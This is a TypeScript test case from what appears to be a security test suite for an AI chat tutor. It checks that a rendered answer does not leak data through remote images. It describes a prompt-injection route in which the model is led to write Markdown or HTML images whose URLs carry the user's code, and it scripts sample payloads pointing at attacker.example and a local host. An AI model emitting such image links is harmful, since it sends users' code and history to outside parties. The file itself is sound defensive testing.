/**
 * Exposure through the page: a prompt injection in the problem or the user's code can make the model
 * write `![](https://attacker/?q=<the user's code>)`; a chat page that loads the image sends the data to
 * that host, unasked. The answer is scripted with the stub's `replay` marker, streamed through the whole
 * chain (the handler passes images on: they are not code), and rendered with the page's own component.
 */

import type { AttackCase } from "../case.js";
import { chatBody, postChat } from "../case.js";
import { surfacesOf, verdict } from "./exposure-setup.js";

const LEAK = "https://attacker.example/pixel.png?code=function%20twoSum(nums%2C%20target)";

/** One image of each Markdown form, raw HTML that fetches, and a plain link (which must stay a link). */
const EXFIL_ANSWER = [
  "Think about which value you need to have seen before.",
  "",
  `![the two-pointer idea](${LEAK})`,
  "",
  "![a sketch][sketch]",
  "",
  "[sketch]: http://127.0.0.1:9/leak?q=history",
  "",
  `Compare with <img src="${LEAK}"> and the [MDN page on maps](https://developer.mozilla.org/).`,
  "",
].join("\n");

/** Tags that load a resource as the page renders; a link (`<a href>`) only loads when clicked. */
const FETCHING_TAG =
  /<(img|image|picture|source|iframe|frame|object|embed|script|link|style|video|audio|track|input|svg|meta|base)\b/gi;
const RESOURCE_ATTRIBUTE = /\s(src|srcset|poster|data|background|style)=/gi;

function fetchesOnRender(html: string): string[] {
  return [...html.matchAll(FETCHING_TAG), ...html.matchAll(RESOURCE_ATTRIBUTE)].map((m) => m[0].trim());
}

const imageExfiltration: AttackCase = {
  id: "EXP-11",
  category: "exposure",
  name: "an answer naming remote images (Markdown, reference, raw HTML img), rendered by the page",
  expected:
    "200 [DONE]; the rendered answer loads nothing (no img or other fetching element), the alt text shown",
  needs: ["stub", "surfaces"],
  async run(target) {
    const kit = await surfacesOf(target);
    const marker = `[[stub:replay text=${Buffer.from(EXFIL_ANSWER).toString("base64url")} delayMs=0]]`;
    const res = await postChat(target, "EXP-11", `Bearer ${await target.validToken()}`, {
      body: chatBody(`Any hint? ${marker}`),
    });
    const problems: string[] = [];
    if (res.status !== 200 || !res.done)
      problems.push(`answer ${res.status}${res.done ? "" : " without [DONE]"}`);
    const html = kit.renderAnswer(res.text);
    const found = fetchesOnRender(html);
    if (found.length > 0) problems.push(`the page would fetch: ${found.join(", ")}`);
    if (!res.text.includes("attacker.example"))
      problems.push("the image never reached the viewer (nothing tried)");
    if (!html.includes("the two-pointer idea")) problems.push("the image's alt text is not shown");
    if (!html.includes('href="https://developer.mozilla.org/"')) problems.push("the plain link is gone");
    return verdict(
      problems,
      `${res.text.length} chars streamed; rendered: alt text shown, no element that fetches`,
    );
  },
};

export const renderCases: AttackCase[] = [imageExfiltration];
